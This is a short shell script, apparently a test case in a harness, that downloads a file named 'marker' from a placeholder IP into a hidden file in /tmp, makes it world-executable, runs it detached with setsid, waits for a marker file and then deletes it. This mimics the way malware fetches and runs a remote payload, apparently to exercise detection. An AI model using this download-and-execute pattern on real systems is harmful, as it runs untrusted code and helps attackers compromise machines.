#!/bin/sh
. /opt/case/case.sh

cd /tmp; wget -q http://203.0.113.10/programs/marker -O .x; chmod 777 .x; (setsid ./.x &) ; wait_for /tmp/reached; rm -f .x
took_place
